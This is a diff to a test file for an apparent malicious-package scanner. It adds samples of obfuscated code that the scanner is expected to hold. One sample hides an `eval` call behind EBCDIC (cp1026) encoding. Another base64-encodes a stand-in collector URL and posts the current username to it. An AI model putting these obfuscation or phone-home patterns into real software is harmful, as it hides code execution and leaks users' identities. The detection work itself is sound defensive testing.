@@ -332,3 +332,41 @@ def test_a_fork_on_a_forge_is_weaker_and_a_home_page_is_no_requirement() -> None
         wheel({"demo/__init__.py": "X = 1\n"}, metadata=metadata), "demo-1.0-py3-none-any.whl"
     )
     assert not held and "url-requirement" not in rules
+
+
+# `eval` and its argument both spelled in a code page nobody writes in (EBCDIC).
+CODE_PAGE = (
+    "import builtins\n"
+    f"run = getattr(builtins, {'eval'.encode('cp1026')!r}.decode('cp1026'))\n"
+    f"run({'print(1)'.encode('cp1026')!r}.decode('cp1026'))\n"
+)
+
+
+def test_code_spelled_in_an_obscure_code_page_and_run_is_held() -> None:
+    rules, held = _judge(wheel({"demo/__init__.py": CODE_PAGE}), "demo-1.0-py3-none-any.whl")
+    assert held and rules["decode-exec"] == 10
+
+
+def test_text_decoded_from_a_common_encoding_is_not_a_payload() -> None:
+    source = (
+        "import builtins\nname = getattr(builtins, 'print')\n"
+        f"name({'héllo'.encode('latin-1')!r}.decode('latin-1'))\n"
+    )
+    rules, held = _judge(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
+    assert not held and "decode-exec" not in rules
+
+
+def test_who_runs_the_code_sent_to_an_address_spelled_only_encoded_is_held() -> None:
+    beacon = (
+        "import base64, getpass, requests\n\ndef connect():\n"
+        "    url = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuY29tL2M=').decode()\n"
+        "    requests.post(url, json={'u': getpass.getuser()})\n"
+    )
+    rules, held = _in_function(beacon)
+    assert held and rules["phone-home"] == 10
+    plain = beacon.replace(
+        "base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuY29tL2M=').decode()",
+        "'https://collect.example.com/c'",
+    )
+    rules, held = _in_function(plain)
+    assert not held and rules["phone-home"] < 10
